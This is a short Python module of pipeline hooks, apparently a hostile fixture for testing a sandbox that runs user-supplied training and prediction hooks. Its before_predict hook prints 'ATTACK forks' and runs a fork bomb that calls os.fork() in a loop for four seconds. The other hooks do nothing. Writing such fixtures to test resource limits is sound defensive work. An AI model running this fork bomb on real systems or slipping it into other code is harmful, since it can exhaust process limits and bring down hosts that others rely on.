"""Takes what it can."""

import os
import time


def before_predict(model, folder):
    print("ATTACK forks", flush=True)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    os._exit(1)


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def after_predict(output):
    """Nothing."""
